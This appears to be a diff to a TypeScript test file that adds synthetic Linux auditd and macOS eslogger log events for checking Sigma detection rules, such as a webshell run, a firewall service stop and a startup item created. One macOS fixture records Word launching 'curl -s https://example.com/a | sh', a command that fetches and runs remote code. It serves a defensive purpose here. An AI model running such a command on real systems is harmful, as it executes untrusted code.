@@ -153,13 +153,211 @@ const SAMPLES: { name: string; source: string; rule: string; event: object }[] =
       MESSAGE: 'error: Corrupted MAC on input. [preauth]',
     },
   },
+  {
+    // Auditbeat's auditd module (Elastic Agent's Auditd Manager writes the same document): a web
+    // server's shell run by execve, the audit rule's key in `tags`.
+    name: 'auditbeat-execve.json',
+    source: 'linux/auditd',
+    rule: 'Webshell Remote Command Execution',
+    event: auditbeatExecve(),
+  },
+  {
+    // Auditbeat's auditd module: a user-space SERVICE_STOP record (no syscall).
+    name: 'auditbeat-service-stop.json',
+    source: 'linux/auditd',
+    rule: 'Disable System Firewall',
+    event: {
+      '@timestamp': '2024-05-01T10:00:01.250Z',
+      event: { module: 'auditd', category: ['process'], action: 'stopped-service', outcome: 'success' },
+      service: { type: 'auditd' },
+      host: { name: 'web1' },
+      auditd: {
+        message_type: 'service_stop',
+        sequence: 8817906,
+        result: 'success',
+        session: 'unset',
+        summary: {
+          actor: { primary: 'unset', secondary: 'root' },
+          object: { type: 'service', primary: 'firewalld' },
+        },
+        data: {
+          unit: 'firewalld',
+          comm: 'systemd',
+          exe: '/usr/lib/systemd/systemd',
+          hostname: '?',
+          addr: '?',
+          terminal: '?',
+        },
+      },
+      user: { id: '0', name: 'root', audit: { id: '4294967295' } },
+      process: { pid: 1 },
+    },
+  },
+  {
+    // Filebeat's auditd module: one audit.log record, its pairs under `auditd.log`.
+    name: 'filebeat-auditd-path.json',
+    source: 'linux/auditd',
+    rule: 'Auditing Configuration Changes on Linux Host',
+    event: {
+      '@timestamp': '2024-05-01T10:00:02.000Z',
+      event: { module: 'auditd', dataset: 'auditd.log', action: 'path' },
+      auditd: {
+        log: {
+          record_type: 'PATH',
+          sequence: 8817907,
+          item: '0',
+          name: '/etc/audit/rules.d/audit.rules',
+          nametype: 'NORMAL',
+          inode: '1234',
+        },
+      },
+    },
+  },
+  {
+    // eslogger exec (Endpoint Security `es_message_t` as JSON): Word's forked child runs a shell.
+    name: 'eslogger-exec.json',
+    source: 'macos/process_creation',
+    rule: 'Suspicious Microsoft Office Child Process - MacOS',
+    event: esloggerExec('/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word', '/bin/zsh', [
+      'zsh',
+      '-c',
+      'curl -s https://example.com/a | sh',
+    ]),
+  },
+  {
+    name: 'eslogger-exec-csrutil.json',
+    source: 'macos/process_creation',
+    rule: 'System Integrity Protection (SIP) Enumeration',
+    event: esloggerExec('/bin/zsh', '/usr/bin/csrutil', ['csrutil', 'status']),
+  },
+  {
+    // eslogger create of a new file: its folder and name in `destination.new_path`.
+    name: 'eslogger-create.json',
+    source: 'macos/file_event',
+    rule: 'Startup Item File Created - MacOS',
+    event: {
+      schema_version: 1,
+      version: 7,
+      time: '2024-05-01T10:00:03.123456789Z',
+      mach_time: 123456789012,
+      event_type: 13,
+      seq_num: 12,
+      global_seq_num: 345,
+      thread: { thread_id: 4242 },
+      process: esProcess('/usr/bin/sudo', 701, 700),
+      event: {
+        create: {
+          destination_type: 1,
+          destination: {
+            new_path: {
+              dir: { path: '/Library/StartupItems/Updater' },
+              filename: 'StartupParameters.plist',
+              mode: 420,
+            },
+          },
+        },
+      },
+      action_type: 1,
+      action: { result: { result_type: 0, result: { auth: 0 } } },
+    },
+  },
 ];
+
+function auditbeatExecve(): object {
+  return {
+    '@timestamp': '2024-05-01T10:00:00.123Z',
+    event: { module: 'auditd', category: ['process'], action: 'executed', outcome: 'success' },
+    service: { type: 'auditd' },
+    host: { name: 'web1' },
+    auditd: {
+      message_type: 'syscall',
+      sequence: 8817905,
+      result: 'success',
+      session: 'unset',
+      data: {
+        syscall: 'execve',
+        arch: 'x86_64',
+        exit: '0',
+        a0: '55d1c4e0a8f0',
+        a1: '55d1c4e0b1a0',
+        a2: '55d1c4e0b1c8',
+        a3: '8',
+        tty: '(none)',
+      },
+      paths: [
+        {
+          name: '/bin/sh',
+          nametype: 'NORMAL',
+          inode: '131078',
+          mode: '0100755',
+          ouid: '0',
+          ogid: '0',
+          item: '0',
+        },
+        { name: '/lib64/ld-linux-x86-64.so.2', nametype: 'NORMAL', item: '1' },
+      ],
+    },
+    user: { id: '33', name: 'www-data', effective: { id: '33' }, audit: { id: '4294967295' } },
+    process: {
+      pid: 31337,
+      ppid: 812,
+      name: 'sh',
+      executable: '/usr/bin/dash',
+      working_directory: '/var/www/html',
+      title: 'sh -c id',
+      args: ['sh', '-c', 'id'],
+    },
+    tags: ['detect_execve_www'],
+  };
+}
+
+/** An Endpoint Security process as eslogger writes it. */
+function esProcess(path: string, pid: number, ppid: number): object {
+  return {
+    audit_token: { pid, euid: 501, ruid: 501, egid: 20, rgid: 20, pidversion: 1, asid: 100001, auid: 501 },
+    ppid,
+    original_ppid: ppid,
+    group_id: pid,
+    session_id: 100001,
+    is_platform_binary: false,
+    is_es_client: false,
+    signing_id: 'com.example',
+    team_id: null,
+    executable: { path, path_truncated: false },
+    start_time: '2024-05-01T09:59:59.000000Z',
+  };
+}
+
+function esloggerExec(parent: string, image: string, args: string[]): object {
+  return {
+    schema_version: 1,
+    version: 7,
+    time: '2024-05-01T10:00:02.500000000Z',
+    mach_time: 123456789000,
+    event_type: 9,
+    seq_num: 10,
+    global_seq_num: 300,
+    thread: { thread_id: 4241 },
+    process: esProcess(parent, 900, 1),
+    event: {
+      exec: {
+        target: esProcess(image, 900, 1),
+        args,
+        cwd: { path: '/Users/alice' },
+        script: null,
+        dyld_exec_path: image,
+      },
+    },
+    action_type: 1,
+    action: { result: { result_type: 0, result: { auth: 0 } } },
+  };
+}
 
 describe.skipIf(!hasContent)('sources without a public sample, from their documented formats', () => {
   let setup: DetectionSetup;
   let dir: string;
   const options = () => ({
-    rules: ['cloud', 'identity', 'application', 'linux'].map((folder) =>
+    rules: ['cloud', 'identity', 'application', 'linux', 'macos'].map((folder) =>
       contentPath('sigma', 'rules', folder),
     ),
   });
